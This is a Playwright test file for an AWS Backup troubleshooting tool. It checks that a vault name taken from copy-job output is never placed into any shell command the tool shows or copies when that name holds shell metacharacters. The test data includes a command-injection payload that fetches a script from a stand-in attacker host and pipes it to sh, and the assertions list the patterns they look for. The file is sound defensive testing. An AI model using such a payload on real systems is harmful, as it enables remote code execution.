// The reviewer's repro, as a user meets it: a copy job output whose destination vault ARN carries a shell command.
// The vault policy step must not offer that command anywhere (shown, copied or downloaded): the gather command shows
// the VAULT_NAME placeholder, a finding names the rejected value, and the fix leaves out the command that needed it.
import type { Page } from '@playwright/test';
import { expect, expectStep, test } from './fixtures';

const SOURCE = '210987654321';
const DEST = '345678901234';
const PAYLOAD = "central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#";

function hostileSession() {
  const copyJob = {
    CopyJob: {
      CopyJobId: '8A3C5F2E-7B41-4D0B-9A1E-2C3D4E5F6A7B',
      SourceBackupVaultArn: `arn:aws:backup:eu-west-1:${SOURCE}:backup-vault:Default`,
      DestinationBackupVaultArn: `arn:aws:backup:eu-central-1:${DEST}:backup-vault:${PAYLOAD}`,
      SourceRecoveryPointArn: `arn:aws:backup:eu-west-1:${SOURCE}:recovery-point:3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a`,
      ResourceType: 'EBS',
      IamRoleArn: `arn:aws:iam::${SOURCE}:role/service-role/AWSBackupDefaultServiceRole`,
      State: 'FAILED',
      StatusMessage: 'Access Denied trying to call AWS Backup service',
    },
  };
  const vaultPolicy = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::562390187442:root' }, Action: 'backup:CopyIntoBackupVault', Resource: '*' }] };
  return {
    format: 'copy-doctor/session',
    version: 1,
    facts: {},
    answers: { organization: 'same' },
    pastes: { copyJob: JSON.stringify(copyJob, null, 2), destinationVaultPolicy: JSON.stringify(vaultPolicy, null, 2) },
  };
}

async function open(page: Page, hash: string) {
  await page.goto('./#/step/start');
  await page.evaluate((s) => {
    localStorage.clear();
    localStorage.setItem('copy-doctor:lang', 'en');
    localStorage.setItem('copy-doctor:session:v1', s);
  }, JSON.stringify(hostileSession()));
  await page.goto(`./${hash}`);
  await page.reload();
}

/** Every command-looking line shown in a code block on the page. */
async function shownCommands(page: Page): Promise<string[]> {
  const blocks = await page.locator('pre code').allInnerTexts();
  return blocks.flatMap((b) => b.split('\n')).filter((l) => /^aws /.test(l.trim()));
}

test('a hostile vault name from a copy job never reaches a command on the vault policy step', async ({ page, context, gates: _g, axe }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page, '#/step/check-destination-vault-policy');
  await expectStep(page, 'Destination vault access policy');

  // The gather command shows the placeholder, and says which fact it needs.
  await expect(page.getByText('aws backup get-backup-vault-access-policy --backup-vault-name VAULT_NAME --region eu-central-1')).toBeVisible();
  await expect(page.getByText(/To fill in this command, enter on the accounts step: Destination vault name/)).toBeVisible();

  // The finding names the rejected value, where it came from, and why.
  await expect(page.getByText(/Destination vault name \(DestinationBackupVaultArn\) in the copy job output was not used: it holds characters a shell acts on/).first()).toBeVisible();

  // The fix keeps its corrected policy but offers no command that would need the vault name.
  await expect(page.getByText(/needs the destination vault’s name/).first()).toBeVisible();
  for (const line of await shownCommands(page)) {
    expect(line).not.toContain('attacker.io');
    expect(line).not.toContain('$IFS');
  }
  for (const button of await page.getByRole('button', { name: /^Copy command/ }).all()) {
    await button.click();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).not.toContain('attacker.io');
  }
  await axe('vault policy step, hostile copy job');
});

test('the results page and Copy all fixes hold no command with the payload', async ({ page, context, gates: _g, axe }) => {
  test.setTimeout(120_000);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page, '#/step/results');
  await expectStep(page, 'Your checklist');
  for (const line of await shownCommands(page)) expect(line).not.toMatch(/attacker\.io|\$IFS|;curl/);

  await page.getByRole('button', { name: 'Copy all fixes' }).click();
  const all = await page.evaluate(() => navigator.clipboard.readText());
  for (const line of all.split('\n').filter((l) => /^aws /.test(l))) expect(line).not.toMatch(/attacker\.io|\$IFS|;curl/);
  expect(all).not.toContain('attacker.io');
  await axe('results, hostile copy job');
});
